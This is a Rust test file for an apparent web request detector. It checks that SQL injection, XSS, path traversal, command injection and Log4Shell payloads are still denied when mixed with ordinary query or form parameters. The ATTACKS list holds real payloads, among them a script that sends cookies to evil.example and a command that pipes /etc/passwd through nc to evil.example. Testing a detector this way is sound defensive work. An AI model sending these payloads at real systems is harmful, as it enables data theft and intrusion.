//! A relation that must hold whatever the models are: what is added to a denied request to look ordinary does not turn
//! it into one that is let through. The shipped models and rules judge; attacks and additions are made up here.

use std::path::Path;

use portcullis_detect::ruletest::OwnedRequest;
use portcullis_detect::{Action, Detector, Policy, Subjects, SystemClock, Worker};

use super::tests::runtime_library;
use super::*;

const ATTACKS: [&str; 8] = [
    "1' UNION SELECT name, password FROM accounts-- ",
    "x'; DROP TABLE orders; --",
    "1 OR 1=1 AND sleep(5)",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 4444",
    "${jndi:ldap://evil.example/a}",
];

/// What ordinary clients send, from dull to wordy.
const ADDED: [&str; 10] = [
    "page=2",
    "sort=name&order=asc",
    "q=an+ordinary+question+about+the+weather",
    "lang=en-GB&currency=EUR&theme=dark",
    "name=Anne-Marie+O%27Neill",
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "comment=It+works%2C+thank+you%21+%28mostly%29",
    "id=7f9c2ba4e88f827d616045507605853e",
    "from=2026-01-31T00%3A00%3A00Z&to=2026-02-28T23%3A59%3A59Z",
    "price=12.50&discount=10%25&tags=a,b,c",
];

/// Where an addition goes.
const PLACES: [fn(&str, &str) -> String; 3] = [
    |attack, added| format!("v={attack}&{added}"),
    |attack, added| format!("{added}&v={attack}"),
    |attack, added| format!("{added}&v={attack}&{added}2"),
];

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn models() -> Models {
    let artifacts = Path::new(env!("CARGO_MANIFEST_DIR")).join("../models/artifacts");
    let config = Config {
        enabled: true,
        required: true,
        manifest: Some(artifacts.join("manifest.json")),
        library: Some(runtime_library()),
        deadline: portcullis_config::Duration::from_secs(60),
        ..Config::default()
    };
    Models::load(&config, 0, &Metrics::new().unwrap(), &Models::none()).unwrap()
}

#[test]
fn ordinary_parameters_do_not_hide_an_attack() {
    let models = models();
    let rules = crate::rules::load(None).unwrap();
    let detector = Detector::new(rules).with_ensemble(models.ensemble().clone());
    let policy = Policy {
        ensemble: true,
        ..Policy::default()
    };
    let mut worker = Worker::default();
    let mut judge = |raw: String| {
        let request = OwnedRequest::parse(raw.as_bytes()).unwrap();
        let subjects = Subjects::of(request.client);
        request.with(|request| {
            detector.inspect(&mut worker, request, &policy, &subjects, &SystemClock)
        })
    };
    let query = |query: &str| format!("GET /search?{query} HTTP/1.1\nHost: shop.example\n\n");
    let form = |body: &str| {
        let length = body.len();
        format!(
            "POST /search HTTP/1.1\nHost: shop.example\nContent-Type: application/x-www-form-urlencoded\nContent-Length: {length}\n\n{body}"
        )
    };
    let mut denied = 0;
    let mut wrong = Vec::new();
    for attack in ATTACKS.map(percent) {
        for write in [&query as &dyn Fn(&str) -> String, &form] {
            if judge(write(&format!("v={attack}"))).action != Action::Deny {
                continue;
            }
            denied += 1;
            for added in ADDED {
                for place in PLACES {
                    let request = write(&place(&attack, added));
                    let verdict = judge(request.clone());
                    if verdict.action < Action::Throttle {
                        wrong.push(format!("{:?} {}: {request}", verdict.action, verdict.score));
                    }
                }
            }
        }
    }
    assert!(
        denied >= ATTACKS.len(),
        "only {denied} were denied to begin with"
    );
    assert!(
        wrong.is_empty(),
        "{} of them: {:#?}",
        wrong.len(),
        &wrong[..wrong.len().min(5)]
    );
}

#[test]
fn additions_alone_are_let_through() {
    let models = models();
    let rules = crate::rules::load(None).unwrap();
    let detector = Detector::new(rules).with_ensemble(models.ensemble().clone());
    let policy = Policy {
        ensemble: true,
        ..Policy::default()
    };
    for added in ADDED {
        let raw = format!("GET /search?{added} HTTP/1.1\nHost: shop.example\n\n");
        let request = OwnedRequest::parse(raw.as_bytes()).unwrap();
        let subjects = Subjects::of(request.client);
        let verdict = request.with(|request| {
            let mut worker = Worker::default();
            detector.inspect(&mut worker, request, &policy, &subjects, &SystemClock)
        });
        assert!(
            verdict.action < Action::Throttle,
            "{added}: {}",
            verdict.score
        );
    }
}
